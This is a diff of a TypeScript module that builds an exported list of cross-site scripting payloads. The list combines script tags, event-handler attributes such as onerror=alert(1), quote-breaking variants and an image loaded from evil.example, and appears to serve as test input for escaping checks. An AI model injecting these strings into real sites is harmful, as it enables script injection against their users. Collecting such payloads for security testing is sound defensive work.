@@ -1,4 +1,3 @@
-/** Texts that would call `alert` on a page that forgets to escape them. */
 const scripts = [
   '<script>alert(1)</script>',
   '</script><script>alert(1)</script>',
@@ -44,8 +43,9 @@ const elements = [
   'object data=x',
   'marquee',
 ];
-const marked = elements.flatMap((element, at) =>
-  [0, 3, 5].map((step) => `<${element} ${handlers[(at + step) % handlers.length]}=alert(1)>`),
+// Each element with three of the handlers.
+const tags = elements.flatMap((element, index) =>
+  [0, 3, 5].map((step) => `<${element} ${handlers[(index + step) % handlers.length]}=alert(1)>`),
 );
 const quoted = ['"', "'", '`'].flatMap((quote) =>
   handlers.slice(0, 5).map((handler) => `${quote}><img src=x ${handler}=alert(1)>`),
@@ -83,9 +83,10 @@ const templates = [
   '<img src=//evil.example/a.png>',
 ];
 
+/** Texts that would call `alert`, or load something from another host, on a page that forgets to escape them. */
 export const payloads: readonly string[] = [
   ...scripts,
-  ...marked,
+  ...tags,
   ...quoted,
   ...attributes,
   ...urls,
